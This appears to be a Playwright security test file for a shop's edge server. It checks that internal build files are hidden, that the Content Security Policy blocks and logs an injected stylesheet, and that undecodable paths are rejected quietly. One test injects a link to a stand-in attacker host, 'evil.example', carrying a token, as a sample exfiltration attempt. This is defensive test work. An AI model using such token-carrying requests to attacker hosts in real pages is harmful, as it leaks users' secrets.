import type { Discovery } from '@shop/shared/contracts';
import { buildAll } from '../../scripts/build-all.ts';
import { freePort } from '../../scripts/free-port.ts';
import { startEdge, type Edge } from '../../scripts/shop.ts';
import { expect, test, type RunningShop } from '../fixtures.ts';

/** Another edge in front of the shop's provider, and the lines that it prints from now on. */
async function startLoggedEdge({ apiBase, dataDir }: RunningShop): Promise<Edge & { lines: string[] }> {
  const lines: string[] = [];
  const edge = await startEdge(
    {
      builds: await buildAll(),
      port: await freePort(),
      dataDir: `${dataDir}/logged`,
      onLine: (line) => lines.push(line),
    },
    apiBase,
  );
  lines.length = 0;
  return { ...edge, lines };
}

test('what only edges read of a build has no address [SEC-16]', async ({ request }) => {
  const discovery = (await (await request.get('/discovery.json')).json()) as Discovery;
  const [blog] = discovery.microFrontends['blog'] ?? [];
  const area = blog?.url.replace(/[^/]*$/, '') ?? '';
  const [, host] = /"(\/releases\/host\/[^/"]+\/)/.exec(await (await request.get('/')).text()) ?? [];
  expect((await request.get(blog?.url ?? '')).status()).toBe(200);
  for (const folder of [area, host])
    for (const file of [
      'release.json',
      'styles.json',
      'document.html',
      'critical.css',
      'server/entry.js',
      'server/',
    ])
      expect([file, (await request.get(`${folder}${file}`)).status()]).toEqual([file, 404]);
});

test.describe('what the policy refuses', () => {
  test.use({ expectedErrors: /Content Security Policy/ });

  test('is not loaded, and the browser tells the edge, which logs it [SEC-15]', async ({ page, shop }) => {
    const edge = await startLoggedEdge(shop);
    try {
      await page.goto(`${edge.url}/products`);
      const isLoaded = await page.evaluate(() => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = 'https://evil.example/x.css?token=abc';
        const loaded = new Promise((resolve) => {
          link.addEventListener('load', () => resolve(true));
          link.addEventListener('error', () => resolve(false));
        });
        document.head.append(link);
        return loaded;
      });
      expect(isLoaded).toBe(false);
      const line = `policy violation: style-src-elem blocked https://evil.example on /products, from `;
      await expect.poll(() => edge.lines.map((text) => text.slice(0, line.length))).toEqual([line]);
      expect(edge.lines[0]).not.toContain('token');
    } finally {
      await page.goto('about:blank');
      await edge.stop();
    }
  });
});

test('paths that cannot be decoded are answered without a line in the log [SEC-21]', async ({ shop }) => {
  const edge = await startLoggedEdge(shop);
  try {
    const paths = [
      '/%',
      '/products/%',
      '/products/%E9%AE',
      '/blog/%ZZ',
      '/f%61q%',
      '/nowhere%C0',
      '/embed/%.js',
    ];
    for (const path of paths) {
      const { status } = await fetch(edge.url + path);
      expect([path, status]).toEqual([path, 404]);
    }
    expect(edge.lines).toEqual([]);
  } finally {
    await edge.stop();
  }
});
